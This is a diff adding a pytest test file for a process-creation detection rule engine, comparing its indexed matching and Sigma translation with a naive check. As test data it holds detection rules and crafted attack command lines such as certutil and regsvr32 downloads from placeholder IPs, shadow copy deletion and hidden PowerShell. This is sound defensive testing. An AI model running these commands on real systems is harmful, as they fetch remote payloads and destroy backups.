@@ -0,0 +1,114 @@
+"""RuleSet's Aho-Corasick and per-image regex buckets agree with checking every rule in turn."""
+import pytest
+
+from mock_log_generator import FleetGenerator
+from rule_engine import BATCH_SUBSTRING_MAX_TERMS, RuleSet, compile_rule, normalize_image
+
+SIGMA_CERTUTIL = """
+title: CertUtil URL cache download
+logsource: {category: process_creation, product: windows}
+detection:
+    selection_img:
+        Image|endswith: '\\certutil.exe'
+    selection_cli:
+        CommandLine|contains|all: ['-urlcache', 'http']
+    condition: selection_img and selection_cli
+"""
+
+SIGMA_REGEX = """
+detection:
+    selection:
+        CommandLine|re: '(?i)\\brundll32(\\.exe)?\\s+javascript:'
+    condition: selection
+"""
+
+ROWS = [
+    {"rule_name": "CertUtil", "logic_type": "keyword",
+     "rule_content": "process_name:certutil.exe AND command_line:urlcache|split|decode"},
+    {"rule_name": "PS Encoded", "logic_type": "keyword",
+     "rule_content": "process_name:powershell.exe|pwsh.exe AND command_line:-enc|-encodedcommand"},
+    {"rule_name": "Any Shadow Delete", "logic_type": "keyword",
+     "rule_content": "command_line:shadowcopy|shadows AND command_line:delete"},
+    {"rule_name": "Bitsadmin Image", "logic_type": "keyword", "rule_content": "process_name:bitsadmin.exe"},
+    {"rule_name": "Regsvr32 Scrobj", "logic_type": "regex",
+     "rule_content": r"process_name:regsvr32.exe AND command_line:/i:\s*https?://\S+.*scrobj"},
+    {"rule_name": "Any Hidden Window", "logic_type": "regex", "rule_content": r"(?i)-w(?:indowstyle)?\s+hidden"},
+    {"rule_name": "Any Temp Exe", "logic_type": "regex", "rule_content": r"command_line:\\temp\\[^\\\s]+\.exe\b"},
+    {"rule_name": "Sigma CertUtil", "logic_type": "sigma", "rule_content": SIGMA_CERTUTIL},
+    {"rule_name": "Sigma Rundll32 JS", "logic_type": "sigma", "rule_content": SIGMA_REGEX},
+]
+# Enough terms on one image that match_batch() falls back to the automaton for it
+ROWS += [{"rule_name": f"Cmd Tool {i}", "logic_type": "keyword",
+          "rule_content": f"process_name:cmd.exe AND command_line:tool{i}|util{i} AND command_line:/c"}
+         for i in range(BATCH_SUBSTRING_MAX_TERMS)]
+
+CRAFTED = [
+    (r"C:\Windows\System32\regsvr32.exe", "regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll"),
+    (r"C:\Windows\System32\vssadmin.exe", "vssadmin Delete Shadows /all /quiet"),
+    (r"C:\Windows\System32\wbem\WMIC.exe", "wmic shadowcopy delete"),
+    (r"C:\Windows\System32\bitsadmin.exe", "bitsadmin /list"),
+    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -W Hidden -nop -c iex(1)"),
+    (r"C:\Windows\System32\cmd.exe", r"cmd /c C:\Users\bob\AppData\Local\Temp\stage2.exe"),
+    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -f http://203.0.113.5/p.bin p.bin"),
+    (r"C:\Windows\System32\rundll32.exe", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""),
+    (r"C:\Windows\System32\cmd.exe", "cmd.exe /c tool17 --all"),
+    (r"C:\Windows\System32\cmd.exe", "cmd.exe /c util63 && tool5"),
+    ("", "CERTUTIL -DECODE a b"),
+    (None, None),
+]
+
+
+def naive_match(rules, process, cmd_line):
+    """Every rule checked in turn, exactly as its definition reads."""
+    image, cmd_line = normalize_image(process), cmd_line or ""
+    cmd_lower = cmd_line.lower()
+    return [i for i, rule in enumerate(rules.rules)
+            if (rule.images is None or image in rule.images)
+            and all(any(term in cmd_lower for term in clause) for clause in rule.clauses)
+            and (rule.regex is None or rule.regex.search(cmd_line))]
+
+
+@pytest.fixture(scope="module")
+def rules():
+    rows = [dict(row, rule_id=i + 1, severity_default="high") for i, row in enumerate(ROWS)]
+    rules = RuleSet.from_rows(rows)
+    assert len(rules) == len(rows)  # nothing was skipped as unparseable
+    return rules
+
+
+def workload():
+    events = [(record["Image"], record["CommandLine"]) for record in FleetGenerator(30, 0.05, 4, 11).events(4000)]
+    return events + CRAFTED
+
+
+def test_indexed_match_equals_naive_loop(rules):
+    matched = set()
+    for process, cmd_line in workload():
+        expected = naive_match(rules, process, cmd_line)
+        assert rules.match_indices(process, cmd_line) == expected, (process, cmd_line)
+        matched.update(expected)
+    names = {rules.rules[i].name for i in matched}
+    assert names >= {row["rule_name"] for row in ROWS if not row["rule_name"].startswith("Cmd Tool")}
+    assert {"Cmd Tool 5", "Cmd Tool 17", "Cmd Tool 63"} <= names  # the automaton-scanned image too
+
+
+def test_match_batch_equals_naive_loop(rules):
+    events = workload()
+    expected = [(position, tuple(hits)) for position, (process, cmd_line) in enumerate(events)
+                if (hits := naive_match(rules, process, cmd_line))]
+    assert rules.match_batch([p or "" for p, _ in events], [c for _, c in events]) == expected
+
+
+def test_sigma_translation():
+    rule = compile_rule({"rule_name": "s", "logic_type": "sigma", "rule_content": SIGMA_CERTUTIL})
+    assert rule.images == {"certutil"} and rule.clauses == [("-urlcache",), ("http",)] and rule.regex is None
+    rule = compile_rule({"rule_name": "s", "logic_type": "sigma", "rule_content": SIGMA_REGEX})
+    assert rule.images is None and not rule.clauses
+    assert rule.regex.search("RUNDLL32.EXE javascript:alert(1)")  # inline (?i) folded into IGNORECASE
+
+    unsupported = SIGMA_REGEX.replace("CommandLine|re", "ParentImage|endswith")
+    with pytest.raises(ValueError):
+        compile_rule({"rule_name": "s", "logic_type": "sigma", "rule_content": unsupported})
+    rules = RuleSet.from_rows([{"rule_name": "bad", "logic_type": "sigma", "rule_content": unsupported},
+                               {"rule_name": "good", "logic_type": "sigma", "rule_content": SIGMA_CERTUTIL}])
+    assert [rule.name for rule in rules.rules] == ["good"]